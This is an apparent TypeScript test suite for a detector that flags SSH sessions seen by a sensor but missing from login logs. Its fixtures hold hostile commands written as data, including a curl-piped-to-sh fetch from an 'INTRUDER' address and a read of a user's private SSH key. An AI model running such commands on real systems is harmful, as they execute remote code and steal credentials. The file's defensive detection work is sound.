import type { DocumentFields } from '../../frames/lane';
import {
  accepted,
  at,
  chatter,
  connection,
  every,
  heartbeat,
  judged,
  laneOf,
  line,
  opened,
  shell,
  type TestRecord,
} from '../testing';
import type { Finding, Judgement } from '../types';

const INTRUDER = '203.0.113.66';
const SCANNER = '192.0.2.200';
const NOON_CRON = at(101);

const talk = every(2, 6, chatter);
const beats = every(5, 6, heartbeat);
/** A login that the logs and the sensor both have, so that their clocks are known to agree. */
const CONTROL = accepted('alice', at(20), undefined, '198.51.100.21', 40_020);
const CONTROL_SEEN = [connection(at(20) - 300, '198.51.100.21', 40_020), shell('alice', at(20) + 300)];

function judge(siem: readonly TestRecord[], central: readonly TestRecord[] = []): Judgement {
  return judged([
    laneOf('central', [...talk, CONTROL, ...central]),
    laneOf('siem', [...beats, ...CONTROL_SEEN, ...siem]),
  ]);
}

function sessions({ findings }: Judgement): readonly Finding[] {
  return findings.filter(({ id }) => id.startsWith('session:'));
}

function severities(judgement: Judgement): readonly string[] {
  return judgement.findings.map(({ severity }) => severity);
}

const knock = (ms = at(100), ip = INTRUDER, port = 59_443) => connection(ms, ip, port);

/** A process that a process of sshd started. */
function belowSshd(user: string, ms: number, command: string, more: DocumentFields = {}): TestRecord {
  const program = command.split(' ')[0].replace(/^-/, '');
  return shell(user, ms, command, {
    'process.executable': program.startsWith('/') ? program : `/usr/bin/${program}`,
    'process.pid': 9001,
    'process.parent.name': 'sshd',
    'process.parent.pid': 9000,
    ...more,
  });
}

describe('a process below sshd', () => {
  it.each([
    ['root', 'bash -c curl -s http://203.0.113.66/x | sh'],
    ['root', 'sh -c id'],
    ['www-data', 'sh -c id'],
    ['mallory', 'scp -t /tmp'],
    ['mallory', '/usr/lib/openssh/sftp-server'],
    ['mallory', 'rsync --server -logDtpre.iLsfxC . /srv'],
    ['mallory', "git-upload-pack '/srv/shop.git'"],
    ['mallory', '/tmp/.x/python3 -'],
    ['root', '-bash'],
  ])('is a session whatever it runs, told where no log has the login: %s: %s', (user, command) => {
    const { headline } = judge([knock(), belowSshd(user, at(100) + 900, command)]);

    expect(headline.severity).toBe('critical');
    expect(headline.statement).toMatchObject({
      id: command === '-bash' ? 'alone' : 'alone-command',
      values: { user, sourceIp: INTRUDER, sourcePort: 59_443 },
    });
  });

  it.each(['sshd-session', '/usr/sbin/sshd', 'sshd: mallory [priv]', 'sshd: mallory@pts/0', 'dropbear'])(
    'is known by its parent, as sensors name it: %s',
    (parent) => {
      const { headline } = judge([
        knock(),
        belowSshd('root', at(100) + 900, 'bash -c id', { 'process.parent.name': parent }),
      ]);
      expect(headline).toMatchObject({ severity: 'critical', statement: { id: 'alone-command' } });
    }
  );

  it('is known by its ancestor, where an agent says how the session came', () => {
    const agent = { 'process.parent.name': 'node', 'process.entry_leader.entry_meta.type': 'sshd' };
    const { headline } = judge([knock(), belowSshd('root', at(100) + 900, 'sh -c id', agent)]);

    expect(headline).toMatchObject({ severity: 'critical', statement: { id: 'alone-command' } });
  });

  it('is one session with all that comes from it', () => {
    const child = { 'process.pid': 9002, 'process.parent.name': 'bash', 'process.parent.pid': 9001 };
    const grandchild = { 'process.pid': 9003, 'process.parent.name': 'python3', 'process.parent.pid': 9002 };
    const judgement = judge([
      knock(at(100), INTRUDER, 59_443),
      knock(at(100) + 100, INTRUDER, 59_444),
      belowSshd('mallory', at(100) + 900, 'bash -c ./x'),
      belowSshd('mallory', at(100) + 950, 'python3 x', child),
      belowSshd('root', at(100) + 990, 'sh -c id', grandchild),
    ]);
    expect(sessions(judgement)).toHaveLength(1);
    expect(judgement.headline.missing).toContainEqual({ id: 'alone-others', values: { count: 1 } });
  });

  it('is told where nobody watches the network too', () => {
    const { headline } = judge([belowSshd('mallory', at(100), 'bash -c id')]);

    expect(headline).toMatchObject({ severity: 'critical', statement: { id: 'alone-below-sshd' } });
  });

  it("of an approved user cannot be cleared, and is not called an intruder's", () => {
    const { headline } = judge([knock(), belowSshd('alice', at(100) + 900, 'scp -t /tmp')]);

    expect(headline).toMatchObject({ severity: 'warning', statement: { id: 'alone-command-approved' } });
  });

  it('is no finding where the log has its login', () => {
    const login = accepted('alice', at(100), undefined, '198.51.100.21', 41_000);
    const seen = [knock(at(100) - 300, '198.51.100.21', 41_000), belowSshd('alice', at(100) + 300, 'bash -c uptime')];

    expect(sessions(judge(seen, [login]))).toEqual([]);
  });

  it('is no second session when one connection carries several shells', () => {
    const login = accepted('alice', at(100), undefined, '198.51.100.21', 41_000);
    const seen = [
      knock(at(100) - 300, '198.51.100.21', 41_000),
      belowSshd('alice', at(100) + 300, '-bash'),
      knock(at(130), SCANNER, 4711),
      belowSshd('alice', at(130) + 5000, '-bash', { 'process.pid': 9400 }),
    ];
    expect(sessions(judge(seen, [login]))).toEqual([]);
  });

  it.each([
    ['the key look-up of a cloud', 'ec2-instance-connect', '/bin/sh /opt/aws/bin/eic_run_authorized_keys mallory'],
    ['the key look-up of a directory', 'nobody', '/usr/bin/sss_ssh_authorizedkeys mallory'],
    ["a key look-up of the site's own", 'keys', '/usr/local/sbin/fetch-keys mallory'],
    ["PAM's check of a password", 'root', '/usr/sbin/unix_chkpwd root nullok'],
    ["sshd's own second half", 'root', '/usr/sbin/sshd -D -R'],
  ])('is none where sshd started it for itself, and the log says how the connection ended: %s', (_, user, command) => {
    const refused = line(
      at(100) + 2000,
      'sshd',
      `Connection closed by invalid user mallory ${INTRUDER} port 59443 [preauth]`
    );
    const failed = line(
      at(100) + 1500,
      'sshd',
      `Failed password for invalid user mallory from ${INTRUDER} port 59443 ssh2`
    );
    const judgement = judge([knock(), belowSshd(user, at(100) + 900, command)], [failed, refused]);

    expect(severities(judgement)).not.toContain('critical');
    expect(sessions(judgement)).toEqual([]);
  });

  it("cannot be tied where a site's own key look-up runs and no line says how the connection ended", () => {
    const judgement = judge([knock(), belowSshd('keys', at(100) + 900, '/usr/local/sbin/fetch-keys root')]);

    expect(sessions(judgement)).toMatchObject([{ severity: 'warning', statement: { id: 'alone-untied' } }]);
  });

  it("is none where it runs beside logins that the log has, as a site's own hooks do", () => {
    const hook = (ms: number) =>
      belowSshd('keys', ms, '/usr/local/sbin/fetch-keys', {
        'process.pid': ms % 1e6,
        'process.parent.pid': (ms % 1e6) - 1,
      });
    const judgement = judge([hook(at(20) - 200), knock(at(100), SCANNER, 4711), hook(at(100) + 500)]);

    expect(sessions(judgement)).toEqual([]);
  });

  it('is not excused by a hook that runs the same interpreter', () => {
    const python = { 'process.executable': '/usr/bin/python3' };
    const hook = belowSshd('root', at(20) - 200, 'python3 /usr/local/bin/hook.py', {
      ...python,
      'process.parent.pid': 70,
    });
    const theirs = belowSshd('root', at(100) + 500, 'python3 -', {
      ...python,
      'process.pid': 9100,
      'process.parent.pid': 9099,
    });

    expect(judge([hook, knock(), theirs]).headline.severity).toBe('critical');
  });

  it.each([
    [
      'the message of the day',
      'sh -c /usr/bin/env -i PATH=/usr/sbin:/usr/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new',
    ],
    ['a hook that tells of logins', '/usr/local/bin/tell-of-login'],
  ])("is none of root's where PAM started it for a login that the log has: %s", (_, command) => {
    const login = accepted('alice', at(100), undefined, '198.51.100.21', 41_000);
    const seen = [
      knock(at(99.9), SCANNER, 4711),
      knock(at(100) - 300, '198.51.100.21', 41_000),
      belowSshd('root', at(100) + 100, command, { 'process.pid': 8999, 'process.parent.pid': 8998 }),
      belowSshd('alice', at(100) + 300, '-bash'),
    ];
    expect(sessions(judge(seen, [login]))).toEqual([]);
  });
});

describe('a process that is not known to run below sshd, after a connection that no login accounts for', () => {
  const after = at(100) + 20_000;

  it.each([
    ['www-data', '/bin/sh -c /srv/shop/resize.sh 17'],
    ['postgres', 'sh -c pg_archive %p'],
    ['nginx', 'sh -c logger rotated'],
    ['_apt', '/bin/sh -c /usr/lib/apt/apt-helper'],
    ['nobody', 'sh'],
    ['grafana', 'sh -c true'],
  ])("of a service's account is nobody's session: %s: %s", (user, command) => {
    const judgement = judge([knock(at(100), SCANNER, 4711), shell(user, after, command)]);

    expect(sessions(judgement)).toEqual([]);
    expect(severities(judgement)).not.toContain('critical');
  });

  it.each(['cron', 'nginx', 'postgres', 'apt-get', 'systemd', 'su', 'tmux: server', 'containerd-shim', 'sudo'])(
    'is not tied to it where its parent is %s',
    (parent) => {
      const job = shell('deploy', after, '/bin/sh -c ./nightly', { 'process.parent.name': parent });
      const judgement = judge([knock(at(100), SCANNER, 4711), job]);

      expect(severities(judgement)).not.toContain('critical');
      expect(sessions(judgement)).toEqual([]);
    }
  );

  it.each(['-bash', '-sh', '-zsh'])('is a session where it is a login shell, of root too: %s', (command) => {
    const { headline } = judge([knock(), shell('root', after, command)]);

    expect(headline).toMatchObject({ severity: 'critical', statement: { id: 'alone', values: { user: 'root' } } });
  });

  it.each(['bash', '/bin/bash -i', 'sh -l'])('is a session where a person types: %s', (command) => {
    expect(judge([knock(), shell('mallory', after, command)]).headline.severity).toBe('critical');
  });

  it('cannot be tied where a person runs a command: told, and not called a break-in', () => {
    const judgement = judge([knock(), shell('mallory', after, 'bash -c ./x')]);

    expect(judgement.headline).toMatchObject({
      severity: 'warning',
      statement: { id: 'alone-untied', values: { user: 'mallory', command: 'bash -c ./x' } },
    });
    expect(judgement.headline.missing.map(({ id }) => id)).toContain('need-parent');
  });

  it('is told once, however many commands there are', () => {
    const many = [100, 140, 180].flatMap((minutes) => [
      knock(at(minutes)),
      shell('mallory', at(minutes) + 900, `bash -c ./x${minutes}`),
    ]);
    expect(sessions(judge(many))).toMatchObject([
      { severity: 'warning', statement: { id: 'alone-untied-many', values: { count: 3 } } },
    ]);
  });

  it("is no more than noted for root's, who runs commands all day", () => {
    const judgement = judge([knock(), shell('root', after, '/bin/sh -c /usr/lib/update-check')]);

    expect(sessions(judgement)).toMatchObject([{ severity: 'notice', statement: { id: 'alone-untied' } }]);
  });

  it.each([
    ["cron's line for it", line(NOON_CRON, 'CRON', '(deploy) CMD (./nightly)')],
    [
      "its session of cron's",
      line(NOON_CRON, 'CRON', 'pam_unix(cron:session): session opened for user deploy(uid=1001) by (uid=0)'),
    ],
    ['the sudo line for it', line(NOON_CRON, 'sudo', ' alice : PWD=/srv ; USER=deploy ; COMMAND=/bin/sh -c ./nightly')],
  ])('is no finding where the log explains it: %s', (_, explanation) => {
    const seen = [knock(at(101) - 10_000, SCANNER, 4711), shell('deploy', NOON_CRON + 20, '/bin/sh -c ./nightly')];

    expect(sessions(judge(seen))).toHaveLength(1);
    expect(sessions(judge(seen, [explanation]))).toEqual([]);
  });

  it.each([
    ["another user's job", line(NOON_CRON, 'CRON', '(bob) CMD (./nightly)')],
    ['another command', line(NOON_CRON, 'CRON', '(deploy) CMD (./weekly)')],
    ['a job of long ago', line(NOON_CRON - 600_000, 'CRON', '(deploy) CMD (./nightly)')],
  ])('is not explained by %s', (_, other) => {
    const seen = [knock(at(101) - 10_000, SCANNER, 4711), shell('deploy', NOON_CRON + 20, '/bin/sh -c ./nightly')];

    expect(sessions(judge(seen, [other]))).toHaveLength(1);
  });

  it.each([
    ['sudo -i', line(at(101), 'sudo', '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash')],
    ['su', line(at(101), 'su', 'pam_unix(su-l:session): session opened for user root(uid=0) by alice(uid=1000)')],
  ])("is no break-in where the log says that %s opened root's login shell", (_, switched) => {
    const judgement = judge([knock(at(101) - 10_000, SCANNER, 4711), shell('root', at(101) + 30)], [switched]);

    expect(severities(judgement)).not.toContain('critical');
    expect(sessions(judgement)).toMatchObject([{ severity: 'notice', statement: { id: 'alone-untied' } }]);
  });

  it('stays a break-in below sshd, whatever a line says that anybody can write', () => {
    const job = line(NOON_CRON, 'CRON', '(root) CMD (id)');
    const seen = [knock(at(101) - 10_000), belowSshd('root', NOON_CRON + 20, '/bin/sh -c id')];

    expect(judge(seen, [job]).headline.severity).toBe('critical');
  });
});

describe("somebody else with an approved user's key, within seconds of the user's own login", () => {
  const own = accepted('alice', at(100), undefined, '198.51.100.21', 41_000);
  const ownSeen = [knock(at(100) - 300, '198.51.100.21', 41_000), shell('alice', at(100) + 300)];

  it('is a finding: one login accounts for one connection and one session', () => {
    const judgement = judge([...ownSeen, knock(at(100) + 5000), shell('alice', at(100) + 6000)], [own]);

    expect(sessions(judgement)).toMatchObject([
      { severity: 'warning', statement: { id: 'alone-approved', values: { user: 'alice', sourceIp: INTRUDER } } },
    ]);
  });

  it('is a finding when the stranger came first', () => {
    const judgement = judge([knock(at(100) - 9000), shell('alice', at(100) - 8000), ...ownSeen], [own]);

    expect(sessions(judgement)).toMatchObject([{ statement: { values: { sourceIp: INTRUDER } } }]);
  });

  it('is critical where networks are listed and the address is not in one', () => {
    const options = {
      approvedUsers: ['alice'],
      approvedNetworks: ['198.51.100.0/24'],
      gapFloorMs: 900_000,
      livenessMs: 1_800_000,
      loginPorts: [22],
    };
    const seen = [...ownSeen, knock(at(100) + 5000), shell('alice', at(100) + 6000)];
    const lanes = [laneOf('central', [...talk, CONTROL, own]), laneOf('siem', [...beats, ...CONTROL_SEEN, ...seen])];
    expect(judged(lanes, options).headline).toMatchObject({ severity: 'critical', statement: { id: 'alone' } });
  });

  it('is a finding from the same address, as behind one router', () => {
    const seen = [...ownSeen, knock(at(100) + 5000, '198.51.100.21', 41_777), shell('alice', at(100) + 6000)];

    expect(sessions(judge(seen, [own]))).toMatchObject([{ statement: { values: { sourcePort: 41_777 } } }]);
  });

  it('is told with a command too, where the sensor names parents', () => {
    const mine = { 'process.pid': 9001, 'process.parent.name': 'sshd', 'process.parent.pid': 9000 };
    const theirs = { 'process.pid': 9101, 'process.parent.name': 'sshd', 'process.parent.pid': 9100 };
    const seen = [
      knock(at(100) - 300, '198.51.100.21', 41_000),
      shell('alice', at(100) + 300, '-bash', mine),
      knock(at(100) + 5000),
      shell('alice', at(100) + 6000, 'bash -c cat .ssh/id_ed25519', theirs),
    ];
    expect(sessions(judge(seen, [own]))).toMatchObject([{ statement: { id: 'alone-command-approved' } }]);
  });

  it("is not seen in what the user's own shell starts", () => {
    const refused = line(at(100), 'sshd', `Failed password for root from ${SCANNER} port 4711 ssh2`);
    const seen = [
      ...ownSeen,
      knock(at(100) - 100, SCANNER, 4711),
      shell('alice', at(100) + 900, 'sh -c less'),
      shell('alice', at(100) + 950, 'bash'),
    ];
    expect(sessions(judge(seen, [own, refused]))).toEqual([]);
    // Where no line names the scanner, the commands are noted, for they may be a session of their own.
    expect(sessions(judge(seen, [own]))).toMatchObject([
      { severity: 'notice', statement: { id: 'alone-untied-many', values: { count: 2 } } },
    ]);
  });

  it('is not seen in several logins that the log has, a second apart', () => {
    const minutes = [100, 100.02, 100.04];
    const lines = minutes.map((minute, index) =>
      accepted('alice', at(minute), undefined, '198.51.100.21', 41_000 + index)
    );
    const seen = minutes.flatMap((minute, index) => [
      knock(at(minute) - 300, '198.51.100.21', 41_000 + index),
      shell('alice', at(minute) + 300),
    ]);
    expect(sessions(judge(seen, lines))).toEqual([]);
  });

  it('is not seen in two documents of one connection', () => {
    const seen = [
      ...ownSeen,
      knock(at(100) - 200, '198.51.100.21', 41_000),
      shell('alice', at(100) + 900, 'bash -c id'),
    ];

    expect(sessions(judge(seen, [own]))).toEqual([]);
  });

  it('is not seen in a session that only PAM tells of', () => {
    const seen = [knock(at(150), '198.51.100.21', 41_000), shell('alice', at(150) + 600)];

    expect(sessions(judge(seen, [opened('alice', at(150) + 500)]))).toEqual([]);
  });
});
